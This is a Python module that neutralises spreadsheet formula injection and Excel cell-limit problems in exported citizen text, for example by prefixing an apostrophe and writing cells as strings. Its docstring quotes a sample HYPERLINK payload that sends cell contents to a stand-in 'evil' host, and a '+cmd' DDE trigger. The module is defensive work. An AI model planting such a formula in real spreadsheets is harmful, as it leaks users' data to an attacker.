"""Text cells that are safe to put in an exported spreadsheet.

Two dangers come with text a citizen typed:
- formula injection: '=HYPERLINK("http://evil/?"&A1,"ดูรายละเอียด")' or '+cmd|...' runs as a
  formula when a spreadsheet program (or a clerk re-typing the cell, or a CSV re-import) reads it
  as one (OWASP "CSV injection");
- cells Excel refuses or truncates: control characters, and more than 32,767 characters.

neutralise() returns the text with a leading apostrophe when it starts with a formula trigger, and
says whether it did. The apostrophe alone is not the guard in an .xlsx: the writer must ALSO write
the cell as a string (xlsxwriter's write_string, or a Workbook opened with WORKBOOK_OPTIONS so that
write() never turns '=...' into a formula). write_text_cell() does both.
"""
from __future__ import annotations

import re
from typing import Any, NamedTuple

EXCEL_MAX_CELL_CHARS = 32_767
TRUNCATION_MARK = "…[ตัด/truncated]"
# OWASP's list (= + - @ tab CR), plus their full-width forms, which East Asian input methods turn
# into the ASCII ones when a clerk edits the cell.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
FORMULA_GUARD = "'"

# xlsxwriter options for every export: rows streamed to disk, and no guessing from text.
WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}

# Characters an .xlsx cannot hold: C0 controls other than tab, line feed and carriage return,
# lone surrogates (not encodable as UTF-8) and the two XML non-characters.
_REJECTED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


class SafeText(NamedTuple):
    text: str
    neutralised: bool
    truncated: bool


def _utf16_length(text: str) -> int:
    # Excel counts UTF-16 code units: characters beyond the BMP (emoji) take two.
    return len(text) + sum(1 for char in text if ord(char) > 0xFFFF)


def _cut_to_units(text: str, units: int) -> str:
    count = 0
    for index, char in enumerate(text):
        count += 2 if ord(char) > 0xFFFF else 1
        if count > units:
            return text[:index]
    return text


def neutralise(value: Any) -> SafeText:
    """Export-safe text of a value: (text, neutralised, truncated).

    None becomes ''. Rejected control characters are removed first, so '\\x01=1' is caught too.
    A text whose first character (after spaces) is a formula trigger gets a leading apostrophe,
    even a plain '-5': in a text column it is text. Over 32,767 UTF-16 units the text is cut and
    ends with TRUNCATION_MARK, the whole staying within Excel's limit.
    """
    if value is None:
        return SafeText("", False, False)
    text = value if isinstance(value, str) else str(value)
    if not text.isprintable():  # printable text holds none of the rejected characters
        text = _REJECTED.sub("", text)
    stripped = text.lstrip(" ")
    neutralised = bool(stripped) and stripped[0] in FORMULA_TRIGGERS
    if neutralised:
        text = FORMULA_GUARD + text
    # A text of at most half the limit fits whatever it holds (no character takes more than two
    # UTF-16 units), so only long texts are counted unit by unit.
    truncated = len(text) > EXCEL_MAX_CELL_CHARS // 2 and _utf16_length(text) > EXCEL_MAX_CELL_CHARS
    if truncated:
        text = _cut_to_units(text, EXCEL_MAX_CELL_CHARS - _utf16_length(TRUNCATION_MARK)) + TRUNCATION_MARK
    return SafeText(text, neutralised, truncated)


_FITS_AS_IS = EXCEL_MAX_CELL_CHARS // 2


def safe_text(value: Any) -> str:
    """The text part of neutralise(): what goes into the cell.

    Most cells are short printable text that starts with a letter or a digit, which neutralise()
    returns as it is: those are returned at once (an export writes millions of them)."""
    if type(value) is str and value and value[0] != " " and value[0] not in FORMULA_TRIGGERS \
            and len(value) <= _FITS_AS_IS and value.isprintable():
        return value
    return neutralise(value).text


def write_text_cell(worksheet: Any, row: int, col: int, value: Any, cell_format: Any = None) -> SafeText:
    """Write a text cell through xlsxwriter's write_string, never write(). Returns what was written."""
    safe = neutralise(value)
    worksheet.write_string(row, col, safe.text, cell_format)
    return safe
